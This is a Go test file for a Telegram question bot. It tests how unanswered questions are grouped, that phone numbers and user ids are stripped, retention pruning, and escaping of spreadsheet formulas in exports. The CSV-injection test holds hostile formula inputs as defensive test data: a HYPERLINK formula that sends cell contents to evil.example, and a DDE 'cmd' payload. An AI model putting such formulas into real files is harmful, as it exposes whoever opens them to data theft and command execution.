package main

import (
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"log/slog"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/compassbot/compass/bot/telegram/telegramtest"
	"github.com/compassbot/compass/store"
)

// TestGaps_EndToEnd: people on Telegram ask what the content does not
// answer; compass serve keeps the questions without who asked, and
// compass gaps groups them for an editor, with the closest intent.
func TestGaps_EndToEnd(t *testing.T) {
	url := smallPackDatabase(t)
	fake := telegramtest.NewServer(serveToken)
	defer fake.Close()
	addr := freeAddr(t)
	stop := startServe(t, map[string]string{"TELEGRAM_TOKEN": serveToken, "TELEGRAM_API_URL": fake.URL, "DATABASE_URL": url, "COMPASS_LISTEN": addr})
	waitUntil(t, "ready", func() bool { code, _ := readyz(addr); return code == http.StatusOK })
	questions := []struct {
		user int64
		lang string
		text string
	}{
		{810001, "en", "Where can I buy a cheap bicycle?"},
		{810002, "en", "where can i buy a bicycle cheaply"},
		{810003, "en", "Where can I buy a cheap bicycle? Call me: 0660 1234567"},
		{810004, "de", "Wo kann ich ein gebrauchtes Fahrrad kaufen?"},
	}
	last := 0
	for _, q := range questions {
		last = fake.AddUpdate(telegramtest.TextUpdate(q.user, q.user, q.lang, q.text))
	}
	waitUntil(t, "all answered", func() bool { return fake.Confirmed() > last })
	env := map[string]string{"DATABASE_URL": url}
	var groups []gapGroup
	waitUntil(t, "the gaps kept", func() bool {
		r := runCLI(t, "", env, "gaps", "--format", "json")
		groups = nil
		if r.code != 0 || json.Unmarshal([]byte(r.stdout), &groups) != nil {
			t.Fatalf("gaps --format json: exit %d, %s%s", r.code, r.stdout, r.stderr)
		}
		n := 0
		for _, g := range groups {
			n += g.Count
		}
		return n == len(questions)
	})
	stop()
	if len(groups) != 2 || groups[0].Count != 3 || groups[1].Count != 1 {
		t.Fatalf("groups %+v; want the three bicycle questions together, then the German one", groups)
	}
	if groups[0].Langs["en"] != 3 || groups[1].Langs["de"] != 1 || groups[0].Regions["at"]+groups[0].Regions["?"] == 0 {
		t.Errorf("languages and regions: %+v, %+v", groups[0], groups[1])
	}
	for _, g := range groups {
		for _, q := range g.Questions {
			if strings.Contains(q, "1234567") {
				t.Errorf("a phone number was kept: %q", q)
			}
		}
	}
	table := runCLI(t, "", env, "gaps")
	if table.code != 0 || !strings.Contains(table.stdout, "4 unanswered question(s)") || !strings.Contains(table.stdout, "bicycle") {
		t.Errorf("gaps (table): exit %d\n%s%s", table.code, table.stdout, table.stderr)
	}
	de := runCLI(t, "", env, "gaps", "--lang", "de", "--format", "csv")
	if de.code != 0 || strings.Count(de.stdout, "\n") != 2 || !strings.Contains(de.stdout, "Fahrrad") || strings.Contains(de.stdout, "bicycle") {
		t.Errorf("gaps --lang de --format csv: exit %d\n%s%s", de.code, de.stdout, de.stderr)
	}
	if r := runCLI(t, "", env, "gaps", "--region", "nowhere"); r.code != 0 || !strings.Contains(r.stdout, "0 unanswered") {
		t.Errorf("gaps --region nowhere: exit %d\n%s", r.code, r.stdout)
	}
	// Nothing in the table names who asked.
	db := openTestDB(t, url)
	var rows int
	if err := db.QueryRow(`SELECT count(*) FROM gaps WHERE text LIKE '%8100%' OR text LIKE '%1234567%'`).Scan(&rows); err != nil || rows != 0 {
		t.Errorf("%d gap rows hold an id or a number (%v)", rows, err)
	}
	for _, bad := range [][]string{{"gaps", "--since", "soon"}, {"gaps", "--format", "xml"}} {
		if r := runCLI(t, "", env, bad...); r.code != 2 {
			t.Errorf("%v: exit %d, want 2", bad, r.code)
		}
	}
}

func openTestDB(t *testing.T, url string) *sql.DB {
	t.Helper()
	db, err := sql.Open("postgres", url)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

// TestPrune deletes what is past its retention and keeps the rest; two
// replicas never prune at once.
func TestPrune(t *testing.T) {
	url := smallPackDatabase(t)
	db := openTestDB(t, url)
	old := time.Now().Add(-400 * 24 * time.Hour)
	for _, q := range []string{
		`INSERT INTO sessions (channel, user_id, lang, updated_at) VALUES ('telegram', '1', 'en', $1), ('telegram', '2', 'en', now())`,
		`INSERT INTO gaps (at, lang, region, text) VALUES ($1, 'en', 'at', 'old question'), (now(), 'en', 'at', 'new question')`,
		`UPDATE audit_log SET at = $1 WHERE id IN (SELECT id FROM audit_log ORDER BY id LIMIT 5)`,
		`INSERT INTO platform_updates (source, update_id, holder, lease_until, taken_at) VALUES ('telegram:1', 1, 'x', $1, $1)`,
		`INSERT INTO tickets (lang, region, state, created_at, updated_at, closed_at, channel, chat_id, user_id, question) VALUES ('en', 'at', 'closed', $1, $1, $1, 'telegram', '9', '9', 'my question')`,
	} {
		if _, err := db.Exec(q, old); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
	var auditBefore int
	db.QueryRow(`SELECT count(*) FROM audit_log`).Scan(&auditBefore)
	r := runCLI(t, "", map[string]string{"DATABASE_URL": url}, "prune")
	if r.code != 0 {
		t.Fatalf("prune: exit %d\n%s", r.code, r.stderr)
	}
	want := "deleted 1 idle session(s) (older than 180d), 1 unanswered question(s) (30d), 5 audit row(s) (365d), 1 update id(s); emptied 1 closed ticket(s) (30d)"
	if !strings.Contains(r.stdout, want) {
		t.Errorf("prune said %q, want %q", r.stdout, want)
	}
	for q, n := range map[string]int{
		`SELECT count(*) FROM sessions`: 1, `SELECT count(*) FROM gaps WHERE text = 'new question'`: 1,
		`SELECT count(*) FROM gaps`: 1, `SELECT count(*) FROM tickets WHERE question IS NOT NULL OR user_id IS NOT NULL`: 0,
		`SELECT count(*) FROM tickets`: 1, `SELECT count(*) FROM platform_updates`: 0,
	} {
		var got int
		if err := db.QueryRow(q).Scan(&got); err != nil || got != n {
			t.Errorf("%s = %d (%v), want %d", q, got, err, n)
		}
	}
	if r := runCLI(t, "", map[string]string{"DATABASE_URL": url, "COMPASS_AUDIT_RETENTION": "forever"}, "prune"); r.code != 2 || !strings.Contains(r.stderr, "COMPASS_AUDIT_RETENTION") {
		t.Errorf("a bad retention: exit %d, %q", r.code, r.stderr)
	}

	// One replica at a time: while one holds the retention lock, another
	// skips its turn.
	s, err := store.Open(context.Background(), url)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	lock, ok, err := s.TryLock(context.Background(), retentionLock)
	if err != nil || !ok {
		t.Fatalf("TryLock: %v %v", ok, err)
	}
	var wg sync.WaitGroup
	var ran bool
	wg.Add(1)
	go func() {
		defer wg.Done()
		ran = pruneOnce(context.Background(), s, store.Retention{Gaps: time.Hour}, discardLogger())
	}()
	wg.Wait()
	if ran {
		t.Error("pruned while another replica held the retention lock")
	}
	lock.Unlock()
	if !pruneOnce(context.Background(), s, store.Retention{Gaps: time.Hour}, discardLogger()) {
		t.Error("did not prune once the lock was free")
	}
}

func discardLogger() *slog.Logger { return slog.New(slog.DiscardHandler) }

// Anyone can write to the bot, and editors open `compass gaps --format
// csv` in a spreadsheet: a question that starts like a formula must stay
// text there (CSV injection), never run, fetch or link.
func TestGaps_CSVQuestionsAreNeverFormulas(t *testing.T) {
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+43 660 cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"}
	groups := []*gapGroup{{Count: 2, Example: formulas[0], Questions: formulas, Langs: map[string]int{"en": 2}, Regions: map[string]int{"at-graz": 2}}}
	var out strings.Builder
	if err := writeGapsCSV(&out, groups, gapsScope{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell a spreadsheet takes for a formula: %q", cell)
			}
		}
		if !strings.Contains(row[6], "HYPERLINK") || !strings.Contains(row[7], "@SUM(1,1)") {
			t.Errorf("the questions' text is lost: %q", row)
		}
	}
}
